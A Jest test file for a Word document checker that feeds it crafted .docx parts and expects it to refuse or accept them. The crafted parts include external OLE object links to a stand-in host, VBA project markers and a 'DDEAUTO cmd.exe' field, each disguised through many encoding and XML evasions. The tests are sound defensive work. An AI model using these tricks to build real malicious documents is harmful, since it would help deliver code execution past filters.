import { afterAll, beforeAll, expect, test } from '@jest/globals'
import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { kindOf } from '../../src/files/kind.ts'
import { office, type Parts } from '../support/sample-files.ts'

// Word parses XML, so a dangerous part must be detected in any spelling, encoding or place.

let folder: string
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'office-'))
})
afterAll(() => rm(folder, { recursive: true }))

async function judged(parts: Parts): Promise<string> {
  await writeFile(join(folder, 'it'), office('word/document.xml', parts))
  const kind = await kindOf(join(folder, 'it'), 'policy.docx')
  return 'refused' in kind ? kind.refused : kind.type
}

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document'
const relationships = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const attributes = `Id="r1" Type="${relationships}/oleObject" Target="https://evil.example/a" TargetMode="External"`
const rels = (content: string) => ({ 'word/_rels/document.xml.rels': `<Relationships>${content}</Relationships>` })
const external = (changed: (plain: string) => string, element = 'Relationship') =>
  rels(`<${element} ${changed(attributes)}/>`)
const wide = (text: string, mark = '\ufeff') => Buffer.from(mark + text, 'utf16le').swap16()
const part = (content: string | Buffer) => ({ 'word/footer.xml': content })
const field = '<w:ftr><w:instrText>DDEAUTO cmd.exe</w:instrText></w:ftr>'

test.each<[string, Parts, string]>([
  ['in plain letters', external(plain => plain), 'elsewhere'],
  ['with a prefix', external(plain => plain, 'pk:Relationship'), 'elsewhere'],
  ['in single quotes', external(plain => plain.replaceAll('"', "'")), 'elsewhere'],
  ['with a character reference in its address', external(plain => plain.replace('https', '&#104;ttps')), 'elsewhere'],
  ['with a character reference in its type', external(plain => plain.replace('ole', 'ol&#x65;')), 'elsewhere'],
  ['with a character reference in its mode', external(plain => plain.replace('Ext', 'E&#120;t')), 'elsewhere'],
  ['after a tab', external(plain => plain.replace('https', '\thttps')), 'elsewhere'],
  ['after a tab written as a character reference', external(plain => plain.replace('https', '&#9;https')), 'elsewhere'],
  ['with a line break in its scheme', external(plain => plain.replace('https', 'ht&#10;tps')), 'elsewhere'],
  ['in capitals', external(plain => plain.replace('https', 'HTTPS')), 'elsewhere'],
  ['after an attribute that contains ">"', external(plain => `Note="a > b" ${plain}`), 'elsewhere'],
  ['next to a harmless address with a prefix', external(plain => `${plain} x:Target="a.bin"`), 'elsewhere'],
  [
    'in UTF-16',
    { 'word/_rels/document.xml.rels': wide(`<Relationships><Relationship ${attributes}/></Relationships>`) },
    'elsewhere',
  ],
  [
    'in UTF-16 without a byte order mark',
    { 'word/_rels/document.xml.rels': wide(`<Relationships><Relationship ${attributes}/></Relationships>`, '') },
    'elsewhere',
  ],
  [
    'between two processing instructions that contain a quote',
    rels(`<?a "?><Relationship ${attributes.replaceAll('"', "'")}/><?b "?>`),
    'elsewhere',
  ],
  [
    'after a document type declaration',
    { 'word/_rels/document.xml.rels': `<!DOCTYPE R><Relationships><Relationship ${attributes}/></Relationships>` },
    'elsewhere',
  ],
  ['with its target given twice', external(plain => `${plain} Target="a.bin"`), 'damaged'],
  ['in an element that does not end', rels(`<Relationship ${attributes}>`), 'elsewhere'],
])('a link to an object on the internet %s is refused', async (_what, parts, refusal) => {
  expect(await judged(parts)).toBe(refusal)
})

test.each<[string, Parts, string]>([
  [
    'whose content type has a character reference',
    {
      '[Content_Types].xml':
        `<Types><Override ContentType="${word}.main+xml"/>` +
        '<Override ContentType="application/vnd.ms-office.vba&#80;roject"/></Types>',
    },
    'macro',
  ],
  [
    'whose relationship has a character reference',
    rels('<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/vba&#80;roject" Target="a.bin"/>'),
    'macro',
  ],
  ['in a field in UTF-16', part(wide(field)), 'macro'],
  ['in a field in UTF-16 without a byte order mark', part(wide(field, '')), 'macro'],
  ['in a field in little-endian UTF-16 without a byte order mark', part(wide(field, '').swap16()), 'macro'],
  ['in a field in UTF-32 without a byte order mark', part(Buffer.from(field.replace(/./g, '$&\0\0\0'))), 'damaged'],
  ['in a field in UTF-32', part(Buffer.from([0xff, 0xfe, 0, 0, ...Buffer.from(wide(field).swap16())])), 'damaged'],
  ['in a field in UTF-7', part(`<?xml version="1.0" encoding="UTF-7"?>${field.replace(/</g, '+ADw-')}`), 'damaged'],
  ['in a field in EBCDIC', part(Buffer.from('4c6fa794933c', 'hex')), 'damaged'],
])('a document with macros %s is refused', async (_what, parts, refusal) => {
  expect(await judged(parts)).toBe(refusal)
})

const link = (id: number) =>
  `<Relationship Id="r${id}" Type="${relationships}/hyperlink" Target="https://library.example/${id}?a=1&amp;b=2" TargetMode="External"/>`

test.each<[string, Parts]>([
  ['with links to a website and an email address', rels(`${link(1)}${link(2).replace('https:', 'mailto:')}`)],
  ['with an object on the internet only in an XML comment', rels(`<!-- <Relationship ${attributes}/> -->${link(1)}`)],
  ['with 60,000 links', rels(Array.from({ length: 60_000 }, (_, id) => link(id)).join(''))],
  [
    'with an XML declaration and a byte order mark',
    { 'word/_rels/a.xml.rels': `\ufeff<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<Relationships/>` },
  ],
  ['in UTF-16', part(wide('<?xml version="1.0" encoding="UTF-16"?><w:ftr/>'))],
  ['in an older encoding', part(Buffer.from('<?xml version="1.0" encoding="windows-1252"?><a>caf\xe9</a>', 'latin1'))],
  ['with an empty part and processing instructions', { ...part('<?mso-contentType?><a/>'), 'customXml/item1.xml': '' }],
])('a document %s is accepted', async (_what, parts) => {
  expect(await judged(parts)).toBe(word)
})
